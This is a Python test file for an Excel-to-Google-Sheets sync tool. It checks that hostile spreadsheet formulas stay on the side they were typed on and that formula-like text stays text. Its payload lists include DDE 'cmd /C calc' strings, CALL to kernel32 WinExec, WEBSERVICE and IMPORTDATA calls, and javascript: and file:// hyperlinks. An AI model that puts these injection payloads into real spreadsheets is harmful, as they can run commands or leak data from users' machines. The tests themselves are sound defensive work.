"""Formulas and texts that mean harm, typed on either side: none is a formula on the other one."""

import openpyxl
import pytest

from lifeops import links
from lifeops.ends import open_ends, sheets_client
from sync.emission import written
from sync.reading import read_side
from sync.store import CELLS
from workbook.errors import FormulaError
from workbook.formula.tree import Place, Target
from workbook.model import Address, Cell, Layout
from workbook.schema import CellSchema, ColumnSchema, Schema, TableSchema
from workbook.values import Formula
from workbook.xlsx.edits import SetCell
from workbook.xlsx.patch import patch
from workbook.xlsx.replace import replace
from workbook.xlsx.scan import read_book

FORMULAS = (
    'WEBSERVICE("http://example.org/"&B2)',
    '_xlfn.WEBSERVICE("http://example.org")',
    'HYPERLINK("javascript:alert(1)","look")',
    'HYPERLINK("file:///c:/windows/system32/calc.exe","look")',
    r'HYPERLINK("\\host\share\x.exe","look")',
    'IMPORTXML("http://example.org","//a")',
    'IMPORTRANGE("abc","A1")',
    'IMPORTDATA("http://example.org")',
    'IMAGE("http://example.org/x.png")',
    "[1]Sheet!A1",
    "'[Other.xlsx]Data'!A1",
    "INDIRECT(\"'[Other.xlsx]Data'!A1\")",
    'LET(x,WEBSERVICE("http://example.org"),x)',
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(1)"),5)',
    'RTD("x",,"y")',
    'CALL("kernel32","WinExec","JCJ","calc",5)',
    'DDE("cmd","/C calc","x")',
    "Evil",
    "SUM(Evil)+1",
    'CELL("filename")',
    "@SUM(1)",
)
UNREADABLE = ("cmd|' /C calc'!A0", "MSEXCEL|'\\..\\cmd.exe /c calc'!''", "SUM(", "1+*2")
TEXTS = (
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\uff1d1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "%=1+1",
    '=HYPERLINK("http://example.org?"&A1)',
    "{=1+1}",
    "_xlfn.WEBSERVICE(1)",
)
SCHEMA = Schema(
    (TableSchema("T", "T", (ColumnSchema("a", "A"), ColumnSchema("b", "B"))),),
    (CellSchema("Known", "T"),),
)


def seen(text, other):
    """Return what a formula is read as, and what is said of it."""
    cells = {"A1": "A", "B1": "B", "C1": "_id", "A2": "x", "C2": "r1", "E1": 1.0}
    grid = {Address.parse(at): Cell(content, content) for at, content in cells.items()}
    grid[Address.parse("B2")] = Cell(Formula(text), "what it shows")
    names = {"Known": ("T", Address.parse("E1")), "Evil": ("Other", Address(1, 1))}
    _, tables, notices = read_side(SCHEMA, {"T": grid}, names, other=other)
    assert tables[CELLS].rows
    return tables["T"].rows[0].cells.get("b"), notices


@pytest.mark.parametrize("other", list(Target))
@pytest.mark.parametrize("text", [*FORMULAS, *UNREADABLE], ids=lambda text: text[:30])
def test_its_value_crosses_one_way_and_it_is_told(text, other):
    content, notices = seen(text, other)
    assert content == "what it shows"
    (notice,) = notices
    assert notice.where == "T!B2"
    assert notice.message.endswith("its value crosses, one way")


def test_a_formula_of_the_link_alone_crosses():
    assert seen("Known+LEN(A2)", Target.EXCEL) == (Formula("Known+LEN([@a])"), ())


@pytest.mark.parametrize(
    ("cell", "looks"),
    [
        (Cell(Formula("LET(x,1,x)"), ""), True),
        (Cell(Formula("LET(x,1,x)"), None), True),
        (Cell(Formula("LET(x,1,x)"), 5.0), False),
        (Cell(None, 5.0), False),
        (Cell(), False),
    ],
)
def test_a_cell_that_some_formula_fills_is_not_blank(cell, looks):
    row = row_with(cell)
    assert row.computed == (frozenset({"b"}) if looks else frozenset())
    assert row.cells.get("b") == (None if looks else cell.value)


def row_with(cell):
    cells = {"A1": "A", "B1": "B", "C1": "_id", "A2": "x", "C2": "r1", "E1": 1.0}
    grid = {Address.parse(at): Cell(content, content) for at, content in cells.items()}
    grid[Address.parse("B2")] = cell
    names = {"Known": ("T", Address.parse("E1"))}
    _, tables, _ = read_side(SCHEMA, {"T": grid}, names, other=Target.EXCEL)
    return tables["T"].rows[0]


def test_a_formula_longer_than_excel_takes_stays_on_the_sheet():
    text = "1" + "+1" * 5_000
    assert seen(text, Target.EXCEL)[0] == "what it shows"
    assert seen(text, Target.GOOGLE)[0] == Formula(text)
    many = f"SUM({','.join('1' * 300)})"
    assert seen(many, Target.EXCEL)[0] == "what it shows"
    there = Layout({}, {})
    with pytest.raises(FormulaError, match="longer than the 8192"):
        written(Formula(text), there, Place("T", 2, 2), Target.EXCEL)
    assert written(Formula(text), there, Place("T", 2, 2), Target.GOOGLE) == Formula(text)


@pytest.fixture
def book(home, lifeops):
    path = home / "list.xlsx"
    made = openpyxl.Workbook()
    made.active.title = "List"
    made.active.append(("Name", "Note"))
    for row in range(200):
        made.active.append((f"row {row}", "plain"))
    made.save(path)
    assert lifeops("link", path, "--local")[0] == 0
    return path


def on_the_sheet(path, contents):
    """Let a person, or a program, put contents into the column Note of the Sheet."""
    rows = [
        {"values": [{"userEnteredValue": {kind: text}}]}
        for kind, text in (
            ("formulaValue", f"={each.text}")
            if isinstance(each, Formula)
            else ("stringValue", each)
            for each in contents
        )
    ]
    with sheets_client(local=True) as client:
        spreadsheet = links.need(path).spreadsheet
        tabs = client.fetch_sheet_metadata(spreadsheet)["sheets"]
        tab = next(t["properties"] for t in tabs if t["properties"]["title"] == "List")
        start = {"sheetId": tab["sheetId"], "rowIndex": 1, "columnIndex": 1}
        request = {"updateCells": {"start": start, "fields": "userEnteredValue", "rows": rows}}
        client.batch_update(spreadsheet, {"requests": [request]})


def in_excel(path, contents):
    book = read_book(path)
    edits = [SetCell("List", Address(row, 2), each) for row, each in enumerate(contents, 2)]
    patched = patch(book, edits)
    assert not patched.refused, patched.refused
    replace(path, patched.data, book.package.digest)


def sheet_formulas(path):
    """Return every formula of the Sheet's Note column, as it was entered."""
    with sheets_client(local=True) as client:
        found = client.spreadsheets_get(
            links.need(path).spreadsheet,
            {"ranges": "List!B2:B299", "fields": "sheets.data.rowData.values.userEnteredValue"},
        )
    rows = found["sheets"][0]["data"][0].get("rowData", [])
    values = [cell.get("userEnteredValue", {}) for row in rows for cell in row.get("values", [{}])]
    return [value["formulaValue"] for value in values if "formulaValue" in value]


def excel_formulas(path):
    cells = read_book(path).sheet("List").cells
    return [
        c.content for at, c in cells.items() if at.column == 2 and isinstance(c.content, Formula)
    ]


def notes(path):
    with open_ends(links.need(path)) as ends:
        return [
            [row.cells.get("Note") for row in store.read().tables["List"].rows]
            for store in (ends.excel, ends.sheet)
        ]


def test_hostile_formulas_of_excel_stay_there(book, lifeops):
    harm = list(map(Formula, FORMULAS))
    in_excel(book, harm)
    code, printed, complaint = lifeops("sync", book)
    assert (code, complaint) == (0, "")
    assert sheet_formulas(book) == []
    assert len(excel_formulas(book)) == len(harm)
    assert "one way" in " ".join(printed.split())
    assert lifeops("sync", book)[1].startswith("Nothing to do, but for formulas that wait")


def test_hostile_formulas_of_the_sheet_stay_there(book, lifeops):
    harm = [Formula(text) for text in (*FORMULAS, *UNREADABLE)]
    on_the_sheet(book, harm)
    code, _, complaint = lifeops("sync", book)
    assert (code, complaint) == (0, "")
    assert excel_formulas(book) == []
    assert len(sheet_formulas(book)) == len(harm)
    assert lifeops("sync", book)[1].startswith("Both sides are the same.")


@pytest.mark.parametrize("put", [in_excel, on_the_sheet])
def test_texts_that_look_like_formulas_stay_texts(book, lifeops, put):
    put(book, TEXTS)
    assert lifeops("sync", book)[0] == 0
    assert (sheet_formulas(book), excel_formulas(book)) == ([], [])
    excel, sheet = notes(book)
    expected = [text.replace("\r", "\n") for text in TEXTS]
    assert excel[: len(TEXTS)] == sheet[: len(TEXTS)] == expected
    assert lifeops("sync", book)[1].startswith("Both sides are the same.")
